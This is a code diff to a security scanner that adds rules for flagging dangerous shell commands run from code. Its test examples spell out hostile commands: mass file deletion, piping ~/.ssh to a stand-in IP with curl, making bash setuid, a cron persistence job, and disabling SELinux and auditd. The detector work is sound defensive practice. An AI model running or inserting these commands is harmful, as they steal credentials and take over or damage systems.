@@ -5,7 +5,9 @@ import {
 } from '../parse/code-payload.js';
 import { codeFrame, type CodeFrame } from '../parse/code-frame.js';
 import { CODE_ROWS, rowDetail, type CodeRow } from '../parse/code-rows.js';
-import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
+import { CODE_SHELL_PATTERNS, embeddedCommands } from '../parse/code-shell.js';
+import { commandFindings } from '../nested.js';
+import type { Analyzer, BaseContext, Finding, Metadata, Primitive, ThreatRule } from '../types.js';
 
 /** Source beyond this is not pattern-checked; the keyword prefilter still sees the capped text. */
 const MAX_CODE = 256 * 1024;
@@ -19,6 +21,23 @@ export interface CodeContext extends BaseContext {
   readonly tainted: readonly string[];
   /** What the code does: operations × objects × destinations (parse/code-frame.ts), built on first use. */
   readonly frame: CodeFrame;
+  /** The command analyzer's verdict on the shell commands the code runs, per primitive (built on first use). */
+  readonly shellVerdict: ReadonlyMap<Primitive, { readonly score: number; readonly name: string }>;
+}
+
+/** Per primitive: the summed score (capped at 10) and the strongest threat's name, over every embedded command. */
+function judgeCommands(text: string, lower: string): Map<Primitive, { score: number; name: string }> {
+  const out = new Map<Primitive, { score: number; name: string }>();
+  for (const cmd of embeddedCommands(text.length === lower.length ? text : lower, lower)) {
+    const sums = new Map<Primitive, { score: number; name: string; top: number }>();
+    for (const f of commandFindings(cmd)) {
+      const s = sums.get(f.primitive);
+      if (s === undefined) sums.set(f.primitive, { score: f.score, name: f.name, top: f.score });
+      else { s.score = Math.min(10, s.score + f.score); if (f.score > s.top) { s.top = f.score; s.name = f.name; } }
+    }
+    for (const [p, s] of sums) { const o = out.get(p); if (o === undefined || s.score > o.score) out.set(p, { score: s.score, name: s.name }); }
+  }
+  return out;
 }
 
 const CR = /\r\n?/g;
@@ -32,6 +51,7 @@ class CodeCtx implements CodeContext {
   declare readonly language: string;
   private declare decodedMemo: readonly string[] | undefined;
   private declare frameMemo: CodeFrame | undefined;
+  private declare shellMemo: Map<Primitive, { score: number; name: string }> | undefined;
   declare readonly tainted: readonly string[];
 
   constructor(raw: string, text: string, metadata: Metadata, language: string, tainted?: readonly string[]) {
@@ -42,11 +62,14 @@ class CodeCtx implements CodeContext {
     this.language = language;
     this.decodedMemo = undefined;
     this.frameMemo = undefined;
+    this.shellMemo = undefined;
     // Eager on purpose: computed lazily it tiers up later, and the JIT work then outweighs what it saves.
     this.tainted = tainted ?? taintedNames(text);
   }
 
   get frame(): CodeFrame { return this.frameMemo ??= codeFrame(this.lower); }
+
+  get shellVerdict(): ReadonlyMap<Primitive, { readonly score: number; readonly name: string }> { return this.shellMemo ??= judgeCommands(this.text, this.lower); }
 
   get decoded(): readonly string[] {
     if (this.decodedMemo === undefined) {
@@ -625,8 +648,27 @@ function rowRule(row: CodeRow): ThreatRule<CodeContext> {
   };
 }
 
+const RUNNER_KEYWORDS = ['system', 'popen', 'exec', 'spawn', 'subprocess', 'check_output', 'check_call', 'getoutput', 'passthru', 'process.start', '%x(', 'invoke-expression', 'iex('];
+
+/** One rule per primitive: what the command analyzer finds in the commands the code runs. */
+function shellRule(id: string, primitive: Primitive, effect: string, flag: string, pass: string): ThreatRule<CodeContext> {
+  return {
+    id, name: `Shell command run by the code ${effect}`, primitive, score: 7, keywords: RUNNER_KEYWORDS,
+    detect: (ctx) => {
+      const v = ctx.shellVerdict.get(primitive);
+      return v !== undefined && v.score >= 3 ? { detail: `${v.name} (in a command the code runs)`, score: v.score } : null;
+    },
+    examples: { flag: [flag], pass: [pass] },
+  };
+}
+
 const rules: ThreatRule<CodeContext>[] = [
   ...CODE_ROWS.map(rowRule),
+  shellRule('G38', 'DESTRUCTION', 'destroys data', 'import os\nos.system("find / -name \'*.bak\' | xargs rm -f")', 'subprocess.run(["rm", "-rf", "build"], check=True)'),
+  shellRule('G39', 'EXFILTRATION', 'sends data out', "execSync('tar czf - ~/.ssh | curl -X POST --data-binary @- http://198.51.100.8/u')", "execSync('tar czf dist.tgz dist')"),
+  shellRule('G40', 'ESCALATION', 'takes control of the machine', 'exec.Command("sh", "-c", "chmod u+s /bin/bash").Run()', 'exec.Command("git", "pull", "--ff-only").Run()'),
+  shellRule('G41', 'PERSISTENCE', 'installs itself to run again', "system(\"echo '* * * * * /tmp/.u' | crontab -\")", 'system("crontab -l")'),
+  shellRule('G42', 'MANIPULATION', 'tampers with the system', 'subprocess.call("setenforce 0 && systemctl stop auditd", shell=True)', 'subprocess.call(["systemctl", "status", "nginx"])'),
   {
     id: 'G01',
     name: 'Code injection: eval/exec of untrusted input',
@@ -1145,6 +1187,7 @@ const codeAnalyzer: Analyzer<CodeContext> = {
   keywordsAtWordStart: true,
   rules,
   auxPatterns: [
+    ...CODE_SHELL_PATTERNS,
     PS_ENCODED, PS_HIDDEN, SANITISER, INJECT_API, ...probePatterns([HTML_SINK, REDIRECT_SINK]),
     ...PAYLOAD_PATTERNS, CR, ...SOURCES, ...probePatterns([EVAL_SINK, ...SHELL_SINKS, ...DYNAMIC_SHELLS, PRIV_GRANT, ...REMOTE_EXECS, AUTORUN_WRITE, OBFUSCATED_CHARS]), SQL_START, ...SQL_INTERP, SQL_FORMATTER, ...TLS_OFF,
     CONCAT_AFTER_STRING, FORMAT_CALL, VAR_THEN_PLUS, VAR_FIRST_ARG, SHELL_TRUE, REMOTE_FETCH,
